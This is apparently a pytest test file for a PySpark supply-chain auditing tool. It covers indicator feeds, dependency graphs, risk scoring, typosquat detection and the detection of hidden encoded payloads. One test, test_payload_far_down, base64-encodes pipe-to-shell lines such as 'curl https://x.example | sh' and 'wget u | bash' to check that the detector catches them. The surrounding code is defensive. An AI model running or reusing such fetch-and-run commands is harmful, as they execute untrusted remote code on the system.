import gzip
import json

import pytest
from pyspark.sql import functions as F

from auditloom.functions import names, payload
from auditloom.operators import corpus, dependencies, graph, indicators, reports, scoring
from auditloom.operators.blocked import with_index, with_previous
from auditloom.sources import feeds


def test_indicator_feed(spark, tmp_path):
    rows = [{"type": "Domain", "value": " Evil.Example. ", "confidence": "odd", "source": "a"}, {"type": "domain", "value": "evil.example", "confidence": "high", "source": "a"}, {"type": "x", "value": "y"}, {"type": "hash", "value": ""}]
    (tmp_path / "i.jsonl").write_text("\n".join(map(json.dumps, rows)))
    assert [tuple(r) for r in feeds.read_indicators(spark, str(tmp_path / "i.jsonl")).collect()] == [("domain", "evil.example", "a", "high", None)]
    (tmp_path / "bad.jsonl").write_text('{"type": "domain", "value"')
    with pytest.raises(Exception):
        feeds.read_indicators(spark, str(tmp_path / "bad.jsonl")).collect()
    (tmp_path / "i.toml").write_text('[[indicator]]\ntype = "package"\nvalue = "lamp"\n')
    assert feeds.read_indicator_list(spark, str(tmp_path / "i.toml")).count() == 1


def test_tree_and_archives(spark, tmp_path):
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "a.gz").write_bytes(gzip.compress(b"x") + b"more")
    (tmp_path / "b").write_bytes(b"\x7fELF" + bytes(9000))
    tree = feeds.tree_manifest(spark, str(tmp_path), 100)
    got = {r.path.rsplit("/", 1)[-1]: r for r in tree.select("path", "length", F.length("head").alias("n"), payload.magic_of(F.col("head")).alias("m"), payload.archive_trailer("head").alias("t")).collect()}
    assert got["a.gz"].t == 4 and got["b"].m == "elf" and got["b"].n == 100 and got["b"].length == 9004 and got["b"].t is None


def test_artifact_and_snapshots(spark, tmp_path):
    df = spark.range(100).select(F.col("id"), F.when(F.col("id") % 2 == 0, F.col("id").cast("string")).alias("v"))
    one = feeds.write_artifact(df, str(tmp_path / "a"), "id")
    two = feeds.write_artifact(df.repartition(7), str(tmp_path / "b"), "id")
    assert one == two != feeds.write_artifact(df.where("id > 0"), str(tmp_path / "c"), "id")
    lines = [json.loads(r.value) for r in spark.read.text(str(tmp_path / "a")).collect()]
    assert sorted(x["id"] for x in lines) == list(range(100)) and all("v" in x for x in lines)
    for _ in range(2):
        feeds.write_snapshot(df, str(tmp_path / "s"), 5)
    feeds.write_snapshot(df.limit(3), str(tmp_path / "s"), 6)
    assert feeds.read_snapshots(spark, str(tmp_path / "s")).groupBy("snapshot_time").count().collect().__len__() == 2
    assert feeds.read_snapshots(spark, str(tmp_path / "s")).count() == 103


def test_two_level_sequences(spark):
    import random

    rng = random.Random(2)
    rows = [(rng.choice(["hot", "hot", None, "b"]), i, rng.randint(0, 50)) for i in range(300)]
    df = spark.createDataFrame(rows, "k string, i int, v int")
    block = F.floor(F.col("i") / 20)
    got = with_index(with_previous(df, ["k"], ["i"], block, F.col("v"), "p"), ["k"], ["i"], block, "n").collect()
    for k in ("hot", None, "b"):
        own = sorted((r for r in got if r.k == k), key=lambda r: r.i)
        assert [r.n for r in own] == list(range(len(own)))
        assert [r.p.v if r.p else None for r in own] == [None, *(r.v for r in own[:-1])]


def test_closure_with_cycle_diamond_and_chain(spark):
    rows = [("a", "b"), ("b", "a"), ("b", "c"), ("a", "d"), ("d", "c"), ("c", "e"), ("e", "f"), ("f", "g"), ("x", "x")]
    edges = graph.edges_of(spark.createDataFrame([(a, [b, None]) for a, b in rows], "n string, t array<string>"), "n", "t")
    got = {(r.src, r.dst): r.distance for r in graph.closure(edges, 3).collect()}
    assert got[("a", "c")] == 2 and got[("a", "e")] == 3 and ("a", "f") not in got and ("a", "a") not in got and got[("b", "a")] == 1
    marked = spark.createDataFrame([("e",), ("c",)], "node string")
    assert {(r.src, r.via, r.distance) for r in graph.exposure(edges, marked, 3).collect()} == {("a", "c", 2), ("b", "e", 2), ("d", "e", 2)}
    assert {r.node: r.level for r in graph.walk(edges, spark.createDataFrame([("d",)], "node string"), 2).collect()} == {"d": 0, "c": 1, "e": 2}


def test_scores_and_bands(spark):
    rows = [("a", "R1", "HIGH"), ("a", "R2", "HIGH"), ("b", "R3", "FATAL"), ("c", "R4", "CRITICAL"), ("d", "R5", "INFO")] + [("e", f"R{i}", "CRITICAL") for i in range(4)]
    got = {r.s: (r.score, r.worst) for r in scoring.scores(spark.createDataFrame(rows, "s string, rule_id string, severity string"), "s").collect()}
    assert got == {"a": (50, "HIGH"), "b": (100, "FATAL"), "c": (40, "CRITICAL"), "d": (0, "INFO"), "e": (100, "CRITICAL")}
    cases = [(20, "LOW", True, False, "Low"), (21, "LOW", True, False, "Medium"), (51, "HIGH", True, True, "High"), (81, "HIGH", True, True, "Critical"), (40, "CRITICAL", False, True, "High"), (30, "LOW", False, False, "Inconclusive"), (5, "LOW", True, True, "Inconclusive"), (30, "HIGH", False, True, "Medium")]
    df = spark.createDataFrame(cases, "s int, w string, m boolean, g boolean, want string")
    assert df.where(scoring.band(F.col("s"), F.col("w"), F.col("m"), F.col("g")) != F.col("want")).count() == 0


def test_percentiles_of_one_to_hundred(spark):
    df = spark.range(1, 101).select(F.lit("g").alias("g"), F.col("id").alias("v"))
    assert [tuple(r) for r in scoring.ranks(df, "g", "v", 0.95).collect()] == [("g", 95, 96)]
    assert scoring.correlation(df.withColumn("w", F.lit(1)), "v", "w").collect()[0][0] == 0.0


def test_deviation_falls_back_without_spread(spark):
    df = spark.createDataFrame([("k", i, 2) for i in range(4)] + [("k", 9, 8)], "k string, p int, n long")
    got = corpus.period_deviation(df, ["k"], "p", "n").collect()
    assert {r.p: r.deviation for r in got} == {3: 0.0, 9: 3.0}


def test_indicators(spark):
    as_of = F.lit("2025-01-01").cast("timestamp")
    facts = spark.createDataFrame([(1, "domain", "a.evil.example", "url"), (1, "domain", "evil.example", "doc"), (2, "domain", "notevil.example", "url"), (3, "package", "Lamp", "name")], "subject long, kind string, value string, surface string")
    listed = spark.createDataFrame([("domain", "evil.example", "f", "high", "2024-01-01"), ("package", "Lamp", "f", "high", "never")], "kind string, value string, source string, confidence string, expires_at string")
    got = {(r.subject, r.surface, r.expired) for r in indicators.matches(facts, listed, as_of).collect()}
    assert got == {(1, "doc", True), (3, "name", False)}


def test_typosquat_candidates_against_all_pairs(spark, tmp_path):
    import random

    from auditloom.plans.relational import typosquat

    rng = random.Random(4)
    words = ["openglade", "lampshade", "quartz", "tinutils", "harbour"]
    rows = [(1, 1, w) for w in words for _ in range(30)]
    for _ in range(60):
        w = list(rng.choice(words))
        for _ in range(rng.randint(1, 2)):
            i, op = rng.randrange(len(w) - 1), rng.choice("sdit")
            if op == "s":
                w[i] = "z"
            elif op == "d":
                del w[i]
            elif op == "i":
                w.insert(i, "y")
            else:
                w[i], w[i + 1] = w[i + 1], w[i]
        rows.append((1, 1, "".join(w)))
    spark.createDataFrame(rows, "snapshot_no int, delivery_no int, name string").write.parquet(str(tmp_path / "package_snapshots.parquet"))
    got = {r.name: (r.distance, r.target) for r in typosquat(spark, str(tmp_path)).collect()}
    count = {w: sum(r[2] == w for r in rows) for _, _, w in rows}
    for name, n in count.items():
        k = 1 if len(name) < 8 else 2
        able = [(d, -m, t) for t, m in count.items() if m >= 2 * n and t != name and 0 < (d := names.osa(name, t, k)) <= k] if len(name) >= 4 else []
        assert got.get(name) == ((min(able)[0], min(able)[2]) if able else None), name


def test_dependencies_and_reports(spark):
    added = spark.createDataFrame([("p", "a"), ("p", "b"), ("p", "c"), ("q", "a")], "subject string, name string")
    known = spark.createDataFrame([("a", 3)], "name string, n long")
    assert {r.name for r in dependencies.novel(added, known).collect()} == {"b", "c"} and dependencies.novel(added, known.limit(0)).count() == 0
    assert [(r.subject, r.n_added, r.magnitude) for r in dependencies.expansion(added, known).collect()] == [("p", 3, 2.25)]
    texts = spark.createDataFrame([("a\nb", "a\nc"), ("x", "x"), (None, "n")], "o string, n string")
    got = [r[0] for r in texts.select(reports.unified_diff("o", "n")).collect()]
    assert "-b\n+c" in got[0] and got[1] == "" and "+n" in got[2]
    tracked = spark.createDataFrame([("a",), ("__seed__",), ("b",)], "name string")
    assert [r.name for r in reports.untracked(tracked, tracked.where("name = 'a'")).collect()] == ["b"]


def test_payload_far_down():
    import base64

    blob = lambda tail: base64.b64encode(b"echo x\n" * 20_000 + tail).decode()
    assert payload.encoded_payload("x=" + blob(b"curl https://x.example | sh\n")) == "base64:shell"
    assert payload.encoded_payload("x=" + blob(b"curl u\n| sh\n")) is None and payload.encoded_payload("x=" + blob(b"a | sh; wget u | bash\n")) == "base64:shell"


def test_summary_lists_all(spark):
    from auditloom.operators import diffs

    names = [f"dep{i}" for i in range(9)]
    df = spark.createDataFrame([(1, "--- a/PKGBUILD\n+++ b/PKGBUILD\n@@ -1 +1,2 @@\n pkgname=x\n+depends=(" + " ".join(names) + ")\n")], "id long, text string")
    assert reports.summary(diffs.diff_facts(df, "id", "text"), "id").first().changes == "adds dependency " + ", ".join(names)


def test_artifact_comes_back(spark, tmp_path):
    from auditloom.sources.feeds import read_artifact, write_artifact

    rows = spark.createDataFrame([("a", 1, None), ("b", None, ["x"])], "k string, n long, l array<string>")
    own = write_artifact(rows, f"{tmp_path}/art", "k")
    back = read_artifact(spark, f"{tmp_path}/art", "k string, n long, l array<string>", own)
    assert sorted(map(tuple, back.collect())) == sorted(map(tuple, rows.collect()))
    with pytest.raises(ValueError):
        read_artifact(spark, f"{tmp_path}/art", "k string", "0" * 64)


def test_metadata_dump(spark, tmp_path):
    import gzip
    import json

    from auditloom.sources.feeds import read_metadata_dump

    (tmp_path / "dump.json.gz").write_bytes(gzip.compress(json.dumps([{"Name": "a", "Version": "1-1", "Depends": ["b"], "Other": 1}, {"Version": "2"}]).encode()))
    assert [(r.Name, r.Version, r.Depends, r.Maintainer) for r in read_metadata_dump(spark, str(tmp_path)).collect()] == [("a", "1-1", ["b"], None)]


def test_chains_without_an_end(spark):
    from auditloom.operators.graph import chain_order

    rows = spark.createDataFrame([("a", None), ("b", "a"), ("c", "b"), ("x", "y"), ("y", "x"), ("z", "gone"), (None, "a")], "sha string, parent string")
    assert {r.sha: r.place for r in chain_order(rows, "sha", "parent").collect()} == {"a": 0, "b": 1, "c": 2, "x": None, "y": None, "z": 0, None: None}
    assert chain_order(rows.limit(0), "sha", "parent").count() == 0
